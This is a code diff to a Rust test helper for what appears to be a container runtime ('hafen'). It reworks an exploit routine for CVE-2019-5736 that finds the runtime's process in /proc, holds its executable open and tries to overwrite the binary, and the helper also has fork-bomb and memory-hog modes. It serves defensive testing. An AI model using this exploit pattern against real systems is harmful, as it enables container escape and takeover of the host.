@@ -9,10 +9,11 @@
 //! - `try <op> [args]`: attempt an operation, report success or errno
 //!   (`mknod PATH MAJOR MINOR`, `open PATH [w]`, `write PATH TEXT`,
 //!   `mkdir PATH`, `getcwd`, `personality N`, `chown PATH UID`,
-//!   `setuid UID`, `sethostname NAME`, `mount TARGET`, `unshare-user`)
+//!   `setuid UID`, `sethostname NAME`, `mount TARGET`, `unshare-user`,
+//!   `open-exe PID`)
 //! - `forkbomb N`: fork up to N sleeping children, report how many forked
 //! - `hog MIB`: allocate and touch memory until MIB or death
-//! - `exe-attack PROGRAM`: the CVE-2019-5736 pattern (see `exe_attack`)
+//! - `exe-attack MARKER SECONDS`: the CVE-2019-5736 pattern (see `exe_attack`)
 //! - `wait-signal`: wait for any signal, print it, exit with its number
 //! - `stat PATH...`: file type, mode, owner and device numbers
 //! - `sleep SECONDS`
@@ -263,6 +264,10 @@ fn try_op(args: &[String]) -> Value {
                 std::ptr::null(),
             )),
             "unshare-user" => i64::from(libc::unshare(libc::CLONE_NEWUSER)),
+            "open-exe" => i64::from(libc::open(
+                cstr(&format!("/proc/{}/exe", arg(1))).as_ptr(),
+                libc::O_PATH | libc::O_CLOEXEC,
+            )),
             other => {
                 return json!({"ok": false, "error": format!("unknown op {other}")});
             }
@@ -305,57 +310,62 @@ fn hog(mib: usize) -> Value {
     json!({"allocated_mib": chunks.len()})
 }
 
-/// CVE-2019-5736: `program` is a script whose interpreter is
-/// `/proc/self/exe`. A child executes it, which (in an unprotected runtime)
-/// makes the runtime binary run inside the container; this process grabs
-/// `/proc/<child>/exe` and, once the child has exited, tries to open it for
-/// writing and overwrite it.
-fn exe_attack(program: &str) -> Value {
-    // SAFETY: fork; the child only calls execv or _exit.
-    let pid = unsafe { libc::fork() };
-    if pid == 0 {
-        let path = cstr(program);
-        let argv = [path.as_ptr(), std::ptr::null()];
-        // SAFETY: argv is NULL-terminated and outlives the call.
-        unsafe {
-            libc::execv(path.as_ptr(), argv.as_ptr());
-            libc::_exit(127)
-        }
-    }
-    let exe = cstr(&format!("/proc/{pid}/exe"));
-    let mut fd = -1;
-    let mut target = String::new();
-    for _ in 0..200_000 {
-        // SAFETY: exe is a valid path; O_PATH opens do not need access rights.
-        fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
-        if fd >= 0 {
-            target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
+/// CVE-2019-5736: watches `/proc` for a process whose executable is the
+/// runtime (its path contains `marker`), keeps an `O_PATH` fd of
+/// `/proc/<pid>/exe`, waits for that process to end and then tries to open
+/// the runtime binary for writing through the fd and overwrite it.
+fn exe_attack(marker: &str, seconds: u64) -> Value {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
+    let me = std::process::id();
+    let mut grabbed: Option<(i32, i32, String)> = None;
+    'scan: while std::time::Instant::now() < deadline {
+        let Ok(dir) = std::fs::read_dir("/proc") else {
+            break;
+        };
+        for entry in dir.flatten() {
+            let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+                continue;
+            };
+            if pid == me {
+                continue;
+            }
+            let exe = cstr(&format!("/proc/{pid}/exe"));
+            // SAFETY: exe is a valid path; an O_PATH open needs no access rights.
+            let fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+            if fd < 0 {
+                continue;
+            }
+            let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                 .map(|p| p.display().to_string())
                 .unwrap_or_default();
-            if target.contains("hafen") || target.contains("memfd") {
-                break;
+            if target.contains(marker) {
+                grabbed = Some((pid as i32, fd, target));
+                break 'scan;
             }
             // SAFETY: closing our own fd.
             unsafe { libc::close(fd) };
-            fd = -1;
         }
     }
-    let mut status = 0;
-    // SAFETY: waiting for our own child.
-    unsafe { libc::waitpid(pid, &mut status, 0) };
-    if fd < 0 {
-        return json!({"grabbed": false, "target": target});
+    let Some((pid, fd, target)) = grabbed else {
+        return json!({"grabbed": false});
+    };
+    // Wait for the process to end: a running executable cannot be written.
+    while std::path::Path::new(&format!("/proc/{pid}/exe")).exists()
+        && std::fs::read_link(format!("/proc/{pid}/exe")).is_ok()
+        && std::time::Instant::now() < deadline
+    {
+        std::thread::sleep(std::time::Duration::from_millis(1));
     }
     let reopen = cstr(&format!("/proc/self/fd/{fd}"));
     let mut last_errno = 0;
     for _ in 0..2000 {
         // SAFETY: reopening through the magic link; plain integer flags.
-        let w = unsafe { libc::open(reopen.as_ptr(), libc::O_WRONLY | libc::O_TRUNC) };
+        let w = unsafe { libc::open(reopen.as_ptr(), libc::O_WRONLY) };
         if w >= 0 {
             let payload = b"#!/bin/sh\necho overwritten\n";
             // SAFETY: writing a valid buffer to our own fd.
             let n = unsafe { libc::write(w, payload.as_ptr().cast(), payload.len()) };
-            return json!({"grabbed": true, "target": target, "overwritten": n > 0});
+            return json!({"grabbed": true, "target": target, "overwritten": n > 0, "errno": if n < 0 { errno() } else { 0 }});
         }
         last_errno = errno();
         if last_errno != libc::ETXTBSY {
@@ -426,7 +436,10 @@ fn main() {
             0,
         ),
         "exe-attack" => (
-            exe_attack(rest.first().map_or("/attack", String::as_str)),
+            exe_attack(
+                rest.first().map_or("hafen", String::as_str),
+                rest.get(1).and_then(|n| n.parse().ok()).unwrap_or(20),
+            ),
             0,
         ),
         "stat" => (stat_paths(rest), 0),
